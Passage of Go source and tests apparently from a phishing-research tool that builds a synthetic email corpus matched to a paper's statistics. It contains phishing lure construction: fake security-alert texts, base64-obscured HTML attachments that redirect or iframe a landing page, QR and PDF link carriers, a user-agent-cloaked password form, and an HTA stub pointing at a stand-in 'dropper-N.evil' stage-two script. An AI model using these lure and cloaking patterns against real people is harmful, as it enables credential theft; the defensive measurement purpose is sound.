		var url string
		switch {
		case i < nx:
			url = fmt.Sprintf("https://takendown-%03d.example/login", i)
		case i < nx+unreach:
			url = fmt.Sprintf("https://unreachable-%03d.example/login", i-nx)
		default:
			url = fmt.Sprintf("https://mobile-only-%03d.example/m", i-nx-unreach)
		}
		delivered := c.deliveredFor(i, counts.errorPages)
		text := fmt.Sprintf(_lureTemplates[i%len(_lureTemplates)], url)
		raw := c.buildEmail(delivered, "Security alert", text, nil)
		c.Messages = append(c.Messages, Message{
			Raw: raw, Delivered: delivered, Month: monthOf(delivered),
			Category: CatError, Carrier: CarrierTextLink, DomainIdx: -1, URL: url,
		})
	}

	// Interaction-required messages.
	for i := 0; i < counts.interaction; i++ {
		host := "drive-share.example"
		if i%3 == 0 {
			host = "captcha-wall.example"
		}
		url := fmt.Sprintf("https://%s/d/%05d", host, i)
		delivered := c.deliveredFor(i, counts.interaction)
		raw := c.buildEmail(delivered, "Document shared with you",
			fmt.Sprintf("A document was shared with you: %s", url), nil)
		c.Messages = append(c.Messages, Message{
			Raw: raw, Delivered: delivered, Month: monthOf(delivered),
			Category: CatInteraction, Carrier: CarrierTextLink, DomainIdx: -1, URL: url,
		})
	}

	// ZIP-with-HTA download messages.
	for i := 0; i < counts.download; i++ {
		delivered := c.deliveredFor(i, counts.download)
		hta := fmt.Sprintf(`<script language="JScript">var u = "https://dropper-%d.evil/stage2.js";</script>`, i)
		zipBytes := buildZipArchive(map[string]string{"document.hta": hta})
		raw := mime.NewBuilder(c.senderFor(i), "employee@corp.example",
			"Shipment documents", delivered).
			Text("Please review the attached shipment documents.").
			Attach("application/zip", "documents.zip", zipBytes).
			Build()
		c.Messages = append(c.Messages, Message{
			Raw: raw, Delivered: delivered, Month: monthOf(delivered),
			Category: CatDownload, Carrier: CarrierNone, DomainIdx: -1,
		})
	}

	// Plain fraud (no web resource) messages.
	for i := 0; i < counts.noURL; i++ {
		delivered := c.deliveredFor(i, counts.noURL)
		text := _fraudTemplates[i%len(_fraudTemplates)]
		if strings.Contains(text, "%s") {
			text = fmt.Sprintf(text, "a partner company")
		}
		noise := quotas.noise > 0 && i%8 == 0
		if noise {
			quotas.noise--
			text += cloak.NoisePadding(i, 40, 60)
		}
		raw := c.buildEmail(delivered, "Outstanding balance", text, nil)
		c.Messages = append(c.Messages, Message{
			Raw: raw, Delivered: delivered, Month: monthOf(delivered),
			Category: CatNoResource, Carrier: CarrierNone, DomainIdx: -1, Noise: noise,
		})
	}

	sort.SliceStable(c.Messages, func(i, j int) bool {
		return c.Messages[i].Delivered.Before(c.Messages[j].Delivered)
	})
}

type carrierQuotas struct {
	faultyQR, qr, pdf, htmlLocal, htmlWindow, noise int
}

// buildActiveMessage renders one active-phishing message for domain di.
func (c *Corpus) buildActiveMessage(rng *rand.Rand, di, k int, delivered time.Time,
	q *carrierQuotas, msgIdx int) Message {
	d := &c.Domains[di]
	url := d.Site.LandingURL
	// Per-message token.
	if d.Cloaks.Tokens {
		base := strings.SplitN(d.Site.LandingURL, "?", 2)[0]
		url = fmt.Sprintf("%s?t=u%03dx%04d", base, di, k)
	}
	victim := fmt.Sprintf("user%d@corp.example", msgIdx%500)
	if d.Cloaks.VictimA || d.Cloaks.VictimB {
		d.Site.AddVictim(victim)
		url += "#" + base64.StdEncoding.EncodeToString([]byte(victim))
	}
	suffix := ""
	if d.Cloaks.OTP {
		suffix += "\nYour access code " + d.OTPCode + " expires in 15 minutes."
	}
	noise := false
	if q.noise > 0 && msgIdx%5 == 0 {
		q.noise--
		noise = true
		suffix += cloak.NoisePadding(msgIdx, 40, 80)
	}
	text := fmt.Sprintf(_lureTemplates[msgIdx%len(_lureTemplates)], url) + suffix

	m := Message{
		Delivered: delivered, Month: monthOf(delivered),
		Category: CatActivePhish, DomainIdx: di,
		Spear: d.Spear, Brand: d.Brand, URL: url, Noise: noise,
	}
	builder := mime.NewBuilder(c.senderFor(msgIdx), victim,
		subjectFor(d, msgIdx), delivered)

	switch {
	case q.faultyQR > 0 && !d.Cloaks.VictimA && !d.Cloaks.VictimB && msgIdx%4 == 1:
		q.faultyQR--
		m.Carrier = CarrierFaultyQR
		img := mustQR("xxx " + url)
		builder.Text("Scan the attached code to view your secure message."+suffix).
			Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img))
	case q.qr > 0 && !d.Cloaks.VictimA && !d.Cloaks.VictimB && msgIdx%4 == 2:
		q.qr--
		m.Carrier = CarrierQR
		img := mustQR(url)
		builder.Text("Scan the attached code with your phone to re-enroll in MFA."+suffix).
			Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img))
	case q.pdf > 0 && msgIdx%4 == 3:
		q.pdf--
		m.Carrier = CarrierPDF
		pdf := pdfx.Build(&pdfx.Document{Pages: []pdfx.Page{{
			TextLines: []string{"Please review the attached notice.", "Open the secure portal below."},
			LinkURIs:  []string{url},
		}}}, true)
		builder.Text("See the attached document."+suffix).
			Attach("application/pdf", "notice.pdf", pdf)
	case (q.htmlLocal > 0 || q.htmlWindow > 0) && !d.Spear && msgIdx%3 == 0:
		windowRedirect := q.htmlLocal == 0
		if windowRedirect {
			q.htmlWindow--
		} else {
			q.htmlLocal--
		}
		m.Carrier = CarrierHTMLAttachment
		att := makeHTMLAttachment(url, windowRedirect)
		builder.Text("Open the attached contract to review."+suffix).
			Attach("text/html", "contract.html", []byte(att))
	case msgIdx%2 == 0:
		m.Carrier = CarrierHTMLLink
		builder.HTML(fmt.Sprintf(
			`<html><body><p>%s</p><a href="%s">Open portal</a></body></html>`,
			strings.SplitN(text, "\n", 2)[0], url)).Text(text)
	default:
		m.Carrier = CarrierTextLink
		builder.Text(text)
	}
	m.Raw = builder.Build()
	return m
}

func makeHTMLAttachment(url string, windowRedirect bool) string {
	b64 := base64.StdEncoding.EncodeToString([]byte(url))
	action := `document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');`
	if windowRedirect {
		action = `location.href = target;`
	}
	return fmt.Sprintf(`<html><body style="background:url(https://freeimages.example/bg.png)">
<img src="https://freeimages.example/banner.png" alt="preview">
<script>
var target = atob(%q);
%s
</script></body></html>`, b64, action)
}

func mustQR(payload string) *imaging.Image {
	m, err := qrcode.Encode(payload, qrcode.ECMedium)
	if err != nil {
		panic("dataset: QR encode: " + err.Error())
	}
	img, err := qrcode.Render(m, 4, 4)
	if err != nil {
		panic("dataset: QR render: " + err.Error())
	}
	return img
}

func subjectFor(d *DomainRecord, idx int) string {
	subjects := []string{
		"Action required: password expiry",
		"Security alert on your account",
		"New secure message",
		"Mandatory re-authentication",
		"Updated travel policy document",
	}
	if d.Spear {
		return "[" + d.Brand + "] " + subjects[idx%len(subjects)]
	}
	return subjects[idx%len(subjects)]
}

func (c *Corpus) senderFor(i int) string {
	senders := []string{
		"no-reply@notices-mail.ru", "support@secure-dispatch.com",
		"admin@it-helpdesk.net", "billing@account-services.org",
	}
	return senders[i%len(senders)]
}

// buildEmail renders a basic text message.
func (c *Corpus) buildEmail(delivered time.Time, subject, text string, _ []string) []byte {
	return mime.NewBuilder(c.senderFor(int(delivered.Unix())%7), "employee@corp.example",
		subject, delivered).Text(text).Build()
}

// deliveredFor spreads the i-th of n messages across the ten months
// proportionally to the monthly plan.
func (c *Corpus) deliveredFor(i, n int) time.Time {
	total := 0
	for _, m := range c.Monthly {
		total += m
	}
	if total == 0 || n == 0 {
		return _startTime.Add(time.Duration(i) * time.Hour)
	}
	target := i * total / n
	cum := 0
	for month, m := range c.Monthly {
		cum += m
		if target < cum {
			offset := time.Duration((i*37)%(27*24)) * time.Hour
			return monthStart(month).Add(offset)
		}
	}
	return monthStart(9).Add(time.Duration(i%600) * time.Hour)
}

func monthOf(t time.Time) int {
	return int(t.Month()) - 1
}

// deployErrorHosts sets up the unreachable and mobile-only hosts that the
// error-category messages point at.
func (c *Corpus) deployErrorHosts(unreach, mobile int) {
	for i := 0; i < unreach; i++ {
		host := fmt.Sprintf("unreachable-%03d.example", i)
		c.Net.AddDNS(host, c.Net.AllocateIP(webnet.IPDatacenter))
		// No Serve: resolves but nothing answers.
	}
	for i := 0; i < mobile; i++ {
		host := fmt.Sprintf("mobile-only-%03d.example", i)
		ip := c.Net.AllocateIP(webnet.IPDatacenter)
		c.Net.AddDNS(host, ip)
		handler := cloak.Chain(func(*webnet.Request) *webnet.Response {
			return &webnet.Response{Status: 200,
				Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
		}, cloak.UserAgentFilter("iPhone", "Android"))
		c.Net.Serve(host, handler)
	}
}

func buildZipArchive(files map[string]string) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		w, err := zw.Create(name)
		if err != nil {
			continue
		}
		_, _ = w.Write([]byte(files[name]))
	}
	_ = zw.Close()
	return b.Bytes()
}
