package dataset

import (
	"net/url"
	"strings"
	"testing"

	"crawlerbox/internal/mime"
	"crawlerbox/internal/urlx"
)

// TestRewriteScenario pins the gateway URL-rewrite scenario end to end at
// the dataset layer: link-carrier active messages planned with a Rewrite
// variant render the wrapped URL (not the canonical one) into their MIME
// bytes, and unwrapping recovers exactly the canonical URL the ground
// truth records. Parse-side decoding is covered in internal/crawlerbox.
func TestRewriteScenario(t *testing.T) {
	c := smallCorpus(t)
	counts := map[RewriteWrap]int{}
	for i := range c.Messages {
		m := &c.Messages[i]
		counts[m.Rewrite]++
		if m.Rewrite == RewriteNone {
			continue
		}
		if m.Category != CatActivePhish ||
			(m.Carrier != CarrierTextLink && m.Carrier != CarrierHTMLLink) {
			t.Fatalf("message %d: rewrite %d on category %v carrier %v",
				i, m.Rewrite, m.Category, m.Carrier)
		}
		body := decodedBodies(t, m.Raw)
		if strings.Contains(body, ">"+m.URL+"<") || strings.Contains(body, ": "+m.URL) {
			t.Errorf("message %d: canonical URL appears unwrapped in rendered body", i)
		}
		wrapped := wrapURL(m, m.URL)
		if !strings.Contains(body, wrapped) {
			t.Errorf("message %d: wrapped URL %q not in rendered body", i, wrapped)
		}
		decoded, layers := urlx.DecodeRewritten(wrapped)
		wantLayers := 1
		if m.Rewrite == RewriteDouble {
			wantLayers = 2
		}
		if layers != wantLayers {
			t.Errorf("message %d: decoded %d layers, want %d", i, layers, wantLayers)
		}
		if decoded != canonicalOf(t, m.URL) {
			t.Errorf("message %d: decoded %q, want canonical %q", i, decoded, m.URL)
		}
	}
	for _, kind := range []RewriteWrap{RewriteSafeLinks, RewriteURLDefense, RewriteDouble} {
		if counts[kind] == 0 {
			t.Errorf("corpus has no messages with rewrite variant %d", kind)
		}
	}
}

// decodedBodies concatenates every decoded text part of a message, so URL
// assertions see the body content rather than its transfer encoding.
func decodedBodies(t *testing.T, raw []byte) string {
	t.Helper()
	root, err := mime.Parse(raw)
	if err != nil {
		t.Fatalf("parsing rendered message: %v", err)
	}
	var b strings.Builder
	err = mime.Walk(root, func(p *mime.Part) error {
		if strings.HasPrefix(p.ContentType, "text/") {
			b.Write(p.Body)
			b.WriteByte('\n')
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// canonicalOf normalizes a ground-truth URL the way extraction does
// (net/url re-encoding), so the comparison tolerates canonicalization.
func canonicalOf(t *testing.T, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatalf("canonicalOf(%q): %v", raw, err)
	}
	return u.String()
}
