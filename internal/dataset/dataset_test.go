package dataset

import (
	"sort"
	"testing"

	"crawlerbox/internal/mime"
	"crawlerbox/internal/stats"
	"crawlerbox/internal/urlx"
)

// smallCorpus caches one generated corpus per test binary run.
var _smallCorpus *Corpus

func smallCorpus(t *testing.T) *Corpus {
	t.Helper()
	if _smallCorpus == nil {
		c, err := Generate(Config{Seed: 11, Scale: 0.1})
		if err != nil {
			t.Fatal(err)
		}
		_smallCorpus = c
	}
	return _smallCorpus
}

func TestGenerateDeterministic(t *testing.T) {
	a, err := Generate(Config{Seed: 5, Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Generate(Config{Seed: 5, Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Messages) != len(b.Messages) || len(a.Domains) != len(b.Domains) {
		t.Fatalf("sizes differ: %d/%d vs %d/%d",
			len(a.Messages), len(a.Domains), len(b.Messages), len(b.Domains))
	}
	for i := range a.Messages {
		if string(a.Messages[i].Raw) != string(b.Messages[i].Raw) {
			t.Fatalf("message %d differs between equal-seed runs", i)
		}
	}
	c, err := Generate(Config{Seed: 6, Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	same := true
	for i := range a.Messages {
		if i < len(c.Messages) && string(a.Messages[i].Raw) != string(c.Messages[i].Raw) {
			same = false
			break
		}
	}
	if same {
		t.Error("different seeds produced identical corpora")
	}
}

func TestCategoryProportions(t *testing.T) {
	c := smallCorpus(t)
	byCat := map[Category]int{}
	for _, m := range c.Messages {
		byCat[m.Category]++
	}
	total := len(c.Messages)
	checkShare := func(cat Category, want float64) {
		got := 100 * float64(byCat[cat]) / float64(total)
		if got < want-3 || got > want+3 {
			t.Errorf("%v share = %.1f%%, want ~%.1f%%", cat, got, want)
		}
	}
	checkShare(CatNoResource, 49.6)
	checkShare(CatError, 15.9)
	checkShare(CatInteraction, 4.5)
	checkShare(CatActivePhish, 29.9)
	if byCat[CatDownload] == 0 {
		t.Error("no download messages generated")
	}
}

func TestDomainStructure(t *testing.T) {
	c := smallCorpus(t)
	hosts := map[string]bool{}
	var counts []float64
	maxCount := 0
	spear := 0
	for _, d := range c.Domains {
		if hosts[d.Host] {
			t.Errorf("duplicate host %q", d.Host)
		}
		hosts[d.Host] = true
		counts = append(counts, float64(d.MessageCount))
		if d.MessageCount > maxCount {
			maxCount = d.MessageCount
		}
		if d.Spear {
			spear++
		}
	}
	med, err := stats.Median(counts)
	if err != nil {
		t.Fatal(err)
	}
	if med != 1 {
		t.Errorf("median messages/domain = %v, want 1", med)
	}
	if maxCount > MaxMessagesPerDomain {
		t.Errorf("max messages/domain = %d > cap %d", maxCount, MaxMessagesPerDomain)
	}
	spearFrac := float64(spear) / float64(len(c.Domains))
	if spearFrac < 0.6 || spearFrac > 0.9 {
		t.Errorf("spear domain fraction = %.2f, want ~411/522", spearFrac)
	}
}

func TestTLDDistributionShape(t *testing.T) {
	c := smallCorpus(t)
	hosts := make([]string, 0, len(c.Domains))
	for _, d := range c.Domains {
		hosts = append(hosts, d.Host)
	}
	dist := urlx.TLDDistribution(hosts)
	if dist[0].TLD != ".com" {
		t.Errorf("top TLD = %s, want .com", dist[0].TLD)
	}
	byTLD := map[string]int{}
	for _, row := range dist {
		byTLD[row.TLD] = row.Count
	}
	if byTLD[".ru"] == 0 || byTLD[".dev"] == 0 || byTLD[".buzz"] == 0 {
		t.Errorf("signature TLDs missing: %v", byTLD)
	}
	if byTLD[".com"] < byTLD[".ru"] {
		t.Error(".com must dominate .ru")
	}
}

func TestTimelineShape(t *testing.T) {
	c := smallCorpus(t)
	var deltaA, deltaB []float64
	for _, d := range c.Domains {
		deltaA = append(deltaA, d.AvgDelivery.Sub(d.Registered).Hours())
		deltaB = append(deltaB, d.AvgDelivery.Sub(d.CertIssued).Hours())
	}
	medA, _ := stats.Median(deltaA)
	medB, _ := stats.Median(deltaB)
	// Shape: registration leads certificates, both positive, medians in
	// the right ballpark (paper: 575 h and 185 h).
	if medA < 200 || medA > 1600 {
		t.Errorf("median timedeltaA = %.0f h, want ~575", medA)
	}
	if medB < 60 || medB > 600 {
		t.Errorf("median timedeltaB = %.0f h, want ~185", medB)
	}
	if medB >= medA {
		t.Errorf("cert lead (%.0f) must be shorter than registration lead (%.0f)", medB, medA)
	}
	for i, d := range c.Domains {
		if d.CertIssued.Before(d.Registered) && d.Provenance == 1 {
			t.Errorf("domain %d: certificate predates registration", i)
		}
		if !d.AvgDelivery.After(d.Registered) {
			t.Errorf("domain %d: delivery before registration", i)
		}
	}
}

func TestMessagesParseable(t *testing.T) {
	c := smallCorpus(t)
	for i, m := range c.Messages {
		if _, err := mime.Parse(m.Raw); err != nil {
			t.Fatalf("message %d unparseable: %v", i, err)
		}
	}
}

func TestMessagesSortedByDelivery(t *testing.T) {
	c := smallCorpus(t)
	if !sort.SliceIsSorted(c.Messages, func(i, j int) bool {
		return c.Messages[i].Delivered.Before(c.Messages[j].Delivered)
	}) {
		t.Error("messages not sorted by delivery time")
	}
}

func TestMonthlyShapeDownwardTrend(t *testing.T) {
	c := smallCorpus(t)
	var total int
	for _, v := range c.Monthly {
		total += v
	}
	if total != len(c.Messages) {
		t.Errorf("monthly sum %d != message count %d", total, len(c.Messages))
	}
	if c.Monthly[0] <= c.Monthly[9] {
		t.Errorf("January (%d) should exceed October (%d): downward trend", c.Monthly[0], c.Monthly[9])
	}
}

func TestCloakAssignments(t *testing.T) {
	c := smallCorpus(t)
	var turnstileMsgs, activeMsgs int
	var anyVictim, anyOTP, anyHue bool
	for _, d := range c.Domains {
		activeMsgs += d.MessageCount
		if d.Cloaks.Turnstile {
			turnstileMsgs += d.MessageCount
		}
		if d.Cloaks.VictimA || d.Cloaks.VictimB {
			anyVictim = true
		}
		if d.Cloaks.OTP {
			anyOTP = true
			if d.OTPCode == "" {
				t.Error("OTP domain without code")
			}
		}
		if d.Cloaks.HueRotate {
			anyHue = true
		}
		if d.Cloaks.ReCaptcha && !d.Cloaks.Turnstile {
			t.Error("reCAPTCHA must ride on Turnstile sites (the nested deployment)")
		}
	}
	share := float64(turnstileMsgs) / float64(activeMsgs)
	if share < 0.6 || share > 0.9 {
		t.Errorf("turnstile share = %.2f, want ~0.74", share)
	}
	if !anyVictim || !anyOTP || !anyHue {
		t.Errorf("cloak coverage missing: victim=%v otp=%v hue=%v", anyVictim, anyOTP, anyHue)
	}
}

func TestWhoisAndCertsRegistered(t *testing.T) {
	c := smallCorpus(t)
	for _, d := range c.Domains {
		if _, err := c.Registry.Lookup(registrableOf(d.Host)); err != nil {
			t.Errorf("no WHOIS for %s: %v", d.Host, err)
		}
		if _, ok := c.Net.CertFor(d.Host); !ok {
			t.Errorf("no certificate for %s", d.Host)
		}
	}
}

func TestRuRegistrars(t *testing.T) {
	c := smallCorpus(t)
	for _, d := range c.Domains {
		if !hasSuffix(d.Host, ".ru") {
			continue
		}
		rec, err := c.Registry.Lookup(registrableOf(d.Host))
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range RuRegistrarsRotation {
			if rec.Registrar == r {
				found = true
			}
		}
		if !found {
			t.Errorf(".ru domain %s has registrar %q", d.Host, rec.Registrar)
		}
	}
}

func TestAllocateCounts(t *testing.T) {
	counts := allocateCounts(1551, 522, 58)
	if len(counts) != 522 {
		t.Fatalf("len = %d", len(counts))
	}
	total, maxC, ones := 0, 0, 0
	for _, c := range counts {
		total += c
		if c > maxC {
			maxC = c
		}
		if c == 1 {
			ones++
		}
	}
	if total != 1551 {
		t.Errorf("total = %d, want 1551", total)
	}
	if maxC > 58 {
		t.Errorf("max = %d > 58", maxC)
	}
	if ones < 261 {
		t.Errorf("only %d domains with exactly 1 message; median must be 1", ones)
	}
}

func TestScaledMonthly(t *testing.T) {
	m := scaledMonthly(0.1, 518)
	total := 0
	for _, v := range m {
		total += v
	}
	if total != 518 {
		t.Errorf("scaled monthly sums to %d, want 518", total)
	}
}

func hasSuffix(s, suf string) bool {
	return len(s) >= len(suf) && s[len(s)-len(suf):] == suf
}
