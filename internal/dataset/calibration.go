// Package dataset generates the synthetic ten-month corpus that substitutes
// for the paper's proprietary 5,181 user-reported messages. Every published
// count, proportion, and distribution from the evaluation is encoded here as
// a calibration constant; the generator draws a deterministic corpus from a
// seed such that running CrawlerBox over it reproduces the paper's numbers
// (shape, not decimals — see EXPERIMENTS.md for paper-vs-measured).
package dataset

// Monthly message counts. Monthly2024 covers January–October 2024 (sum
// 5,181; mean 518.1; the paper reports sigma 278.4 — this calibration
// yields ~277.6). Monthly2023 covers March–December 2023 (sum 8,852; mean
// 885.2; final three months fixed to the published 1,959/1,533/1,249).
var (
	Monthly2024 = [10]int{1150, 830, 610, 500, 420, 370, 340, 390, 300, 271}
	Monthly2023 = [10]int{600, 560, 580, 600, 620, 700, 451, 1959, 1533, 1249}
)

// Message disposition counts at full scale (Section V; the published
// figures sum to 5,186 against the stated 5,181 total — the error-page
// count absorbs the difference here).
const (
	TotalMessages    = 5181
	CountNoResource  = 2572 // 49.6%
	CountError       = 818  // ~15.9% (823 in the paper; see note above)
	CountInteraction = 235  // 4.5%
	CountDownload    = 5    // 0.1%
	CountActivePhish = 1551 // 29.9%
)

// Active-phishing structure (Section V-A/B).
const (
	CountSpearMessages   = 1137 // 73.3% of active phish
	CountNonTargeted     = 414
	CountSpearDomains    = 411 // 522 total landing domains
	CountNonTargDomains  = 111
	CountTotalDomains    = 522
	MaxMessagesPerDomain = 58
	// CountHotLoadSpear is the spear-message quota whose pages hot-load
	// brand assets (339/1137 = 29.8%).
	CountHotLoadSpear = 339
	// CountDeceptiveSpear/NonTarg are the deceptive-syntax domain quotas
	// (82/522 = 15.7% overall; 11/111 among non-targeted).
	CountDeceptiveSpear   = 71
	CountDeceptiveNonTarg = 11
)

// Table II: TLD distribution over the 522 landing domains.
var TLDPlan = []struct {
	TLD   string
	Count int
}{
	{".com", 262}, {".ru", 48}, {".dev", 45}, {".buzz", 27},
	{".tech", 9}, {".xyz", 9}, {".org", 8}, {".click", 7}, {".br", 7},
	// "Other" (100 domains) spread over common zones.
	{".net", 20}, {".info", 15}, {".online", 12}, {".site", 12},
	{".app", 11}, {".io", 10}, {".co", 8}, {".us", 6}, {".fr", 3}, {".de", 3},
}

// Deployment-timeline calibration (Section V-A, Figure 3): lognormal
// parameters chosen so the medians land on the published 575 h / 185 h and
// the >90-day tail counts land near 102 (timedeltaA) and 5 (timedeltaB).
const (
	TimedeltaAMedianHours = 575.0
	TimedeltaASigma       = 1.54
	TimedeltaBMedianHours = 185.0
	TimedeltaBSigma       = 1.05
	// Outlier provenance split (71 outlier domains).
	CountOutlierFresh       = 42
	CountOutlierCompromised = 20
	CountOutlierAbused      = 9
	// CountCertOutliers domains have timedeltaB > 90 days; 4 of the 5 are
	// compromised legitimate domains.
	CountCertOutliers = 5
)

// AbusedServiceSuffixes are the legitimate hosting services the 9 abused
// domains ride on.
var AbusedServiceSuffixes = []string{
	"vercel.app", "cloudflare-ipfs.com", "workers.dev",
	"r2.dev", "oraclecloud.com", "cloudfront.net",
}

// Passive-DNS (Umbrella) calibration: medians for single- vs multi-message
// domains plus the three published outlier volumes.
const (
	DNSSingleMedianTotal = 43
	DNSSingleMedianMax   = 18 // published median 18.5
	DNSMultiMedianTotal  = 100
	DNSMultiMedianMax    = 50 // published median 50.5
	DNSTopVolume         = 665_126_135
	DNSSecondVolume      = 37_623_107
	DNSThirdVolume       = 15_362
)

// Cloaking prevalence quotas (message counts at full scale, Section V-C).
const (
	CountCredentialSubset = 1267 // denominator for the Turnstile share
	CountTurnstile        = 943  // 74.4%
	CountReCaptcha        = 314  // 24.8%
	CountConsoleHijack    = 295
	CountDebuggerTimer    = 10
	CountDevtoolsBlock    = 39
	CountHueRotateMsgs    = 103
	CountFingerprintGate  = 15
	CountOTPGate          = 47
	CountMathChallenge    = 11
	CountFPLibrary        = 5 // BotD + FingerprintJS, July 9-18 window
	CountExfilHTTPBin     = 145
	CountExfilIPAPI       = 83
	CountVictimCheckAMsgs = 151
	CountVictimCheckADoms = 38
	CountVictimCheckBMsgs = 143
	CountVictimCheckBDoms = 57
	CountNoisePadded      = 270
	CountFaultyQR         = 35
	CountQRMessages       = 120 // total messages carrying QR codes
	CountPDFMessages      = 80
	CountHTMLAttachments  = 29 // 19 local-iframe + 10 window-redirect
	CountHTMLAttachLocal  = 19
)

// Non-targeted brand plan over the 111 non-targeted domains (scaled from
// the paper's 130 unique pages: generic Microsoft 44, Excel 20, OneDrive
// 12, Office 365 11, DocuSign 1, others 42).
var NonTargetedBrandPlan = []struct {
	Brand string
	Count int
}{
	{"MICROSOFT", 38}, {"MICROSOFT EXCEL", 17}, {"ONEDRIVE", 10},
	{"OFFICE 365", 9}, {"DOCUSIGN", 1}, {"WEBMAIL", 36},
}

// Error-category composition: fractions of the error/inaccessible messages.
const (
	ErrorFracNXDomain    = 0.55 // site taken down, DNS gone
	ErrorFracUnreachable = 0.30 // DNS alive, server gone
	// The remainder are mobile-only cloaked pages (server-side UA filter),
	// which the desktop crawler measures as benign decoys.
)

// RuRegistrarsRotation assigns .ru registrars round-robin.
var RuRegistrarsRotation = []string{
	"REGRU-RU", "R01-RU", "RU-CENTER-RU", "REGTIME-RU", "OPENPROV-RU",
}
