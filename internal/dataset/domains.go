package dataset

import (
	"fmt"
	"math"
	"math/rand"
	"strings"
	"time"

	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/whois"
)

// _neutralWords builds innocuous-looking domain labels — the paper's key
// observation is that most landing domains carry no deceptive markers.
var _neutralWords = []string{
	"meadow", "harbor", "cobalt", "lantern", "orchid", "summit", "willow",
	"ember", "quartz", "breeze", "falcon", "cedar", "marble", "voyage",
	"beacon", "canyon", "tundra", "velvet", "aurora", "prairie", "garnet",
	"mosaic", "drift", "alpine", "coral", "zephyr", "linden", "harvest",
	"juniper", "cascade", "onyx", "saffron", "tidal", "bramble", "solace",
}

var _phishyWords = []string{"login", "secure", "verify", "account", "portal", "auth", "update"}

// _banners are the Shodan-style service banners rotated across phishing
// hosts: the commodity hosting stacks kits deploy onto.
var _banners = []string{
	"nginx/1.24.0", "Apache/2.4.58 (Ubuntu)", "cloudflare",
	"LiteSpeed", "nginx/1.18.0", "Caddy",
}

// generateDomains creates, registers, and deploys every landing domain.
func (c *Corpus) generateDomains(rng *rand.Rand, counts dispositionCounts) error {
	numDomains := counts.spearDoms + counts.nonTargDoms
	spearCounts := allocateCounts(counts.spearMsgs, counts.spearDoms, MaxMessagesPerDomain)
	nonTargCounts := allocateCounts(counts.nonTargMsgs, counts.nonTargDoms, MaxMessagesPerDomain)

	tlds := tldAssignments(numDomains)
	// Scaled structural quotas (domain-level).
	scale := c.cfg.Scale
	decSpear := scaleQuota(CountDeceptiveSpear, scale)
	decNonTarg := scaleQuota(CountDeceptiveNonTarg, scale)
	compromised := scaleQuota(CountOutlierCompromised+4, scale) // incl. cert outliers
	abused := scaleQuota(CountOutlierAbused, scale)

	idx := 0
	brandRot := 0
	seenHosts := map[string]bool{}
	nonTargBrands := nonTargetedBrandList(counts.nonTargDoms)
	for group := 0; group < 2; group++ {
		spear := group == 0
		var counts []int
		if spear {
			counts = spearCounts
		} else {
			counts = nonTargCounts
		}
		for i, msgCount := range counts {
			if msgCount == 0 {
				continue
			}
			d := DomainRecord{Spear: spear, MessageCount: msgCount}
			// Brand.
			if spear {
				d.Brand = phishkit.StudyBrands[brandRot%len(phishkit.StudyBrands)].Name
				brandRot++
			} else {
				d.Brand = nonTargBrands[i%len(nonTargBrands)]
			}
			// Provenance: compromised and abused-service domains come from
			// the tail of each group.
			switch {
			case abused > 0 && i >= len(counts)-2 && !spear:
				d.Provenance = whois.ProvenanceAbusedService
				abused--
			case compromised > 0 && i%9 == 7:
				d.Provenance = whois.ProvenanceCompromised
				compromised--
			default:
				d.Provenance = whois.ProvenanceFresh
			}
			// Name + TLD.
			deceptive := false
			if spear && decSpear > 0 && i%5 == 2 {
				deceptive = true
				decSpear--
			}
			if !spear && decNonTarg > 0 && i%8 == 5 {
				deceptive = true
				decNonTarg--
			}
			d.Deceptive = deceptive
			tld := tlds[idx%len(tlds)]
			d.Host = c.domainName(rng, idx, d, tld)
			for seenHosts[d.Host] {
				d.Host = fmt.Sprintf("x%d-%s", idx, d.Host)
			}
			seenHosts[d.Host] = true
			c.Domains = append(c.Domains, d)
			idx++
		}
	}
	c.assignTimelines(rng)
	c.assignCloaks()
	c.deployDomains(rng)
	return nil
}

// nonTargetedBrandList expands the non-targeted brand plan into a
// per-domain brand assignment of length n.
func nonTargetedBrandList(n int) []string {
	var out []string
	total := 0
	for _, p := range NonTargetedBrandPlan {
		total += p.Count
	}
	for _, p := range NonTargetedBrandPlan {
		c := p.Count * n / total
		if c < 1 {
			c = 1
		}
		for i := 0; i < c; i++ {
			out = append(out, p.Brand)
		}
	}
	for len(out) < n {
		out = append(out, "MICROSOFT")
	}
	return out[:n]
}

func scaleQuota(n int, scale float64) int {
	v := int(float64(n)*scale + 0.5)
	if n > 0 && scale >= 0.2 && v < 1 {
		v = 1
	}
	return v
}

// tldAssignments expands the Table II plan into a per-domain TLD list.
func tldAssignments(n int) []string {
	var out []string
	total := 0
	for _, p := range TLDPlan {
		total += p.Count
	}
	for _, p := range TLDPlan {
		c := p.Count * n / total
		if c < 1 {
			c = 1
		}
		for i := 0; i < c; i++ {
			out = append(out, p.TLD)
		}
	}
	for len(out) < n {
		out = append(out, ".com")
	}
	return out[:n]
}

// domainName derives a deterministic host name for a domain record.
func (c *Corpus) domainName(rng *rand.Rand, idx int, d DomainRecord, tld string) string {
	if d.Provenance == whois.ProvenanceAbusedService {
		suffix := AbusedServiceSuffixes[idx%len(AbusedServiceSuffixes)]
		return fmt.Sprintf("site-%04d.%s", idx, suffix)
	}
	if d.Deceptive {
		brandToken := strings.ToLower(strings.Split(d.Brand, " ")[0])
		switch idx % 4 {
		case 0: // combosquatting
			return brandToken + "-" + _phishyWords[idx%len(_phishyWords)] + tld
		case 1: // typosquatting: a distinct edit-distance-1 mutation per idx
			return typoVariant(brandToken, idx/4) + tld
		case 2: // target embedding
			return brandToken + ".host-" + _neutralWords[idx%len(_neutralWords)] + tld
		default: // keyword stuffing
			return _phishyWords[idx%len(_phishyWords)] + "-" +
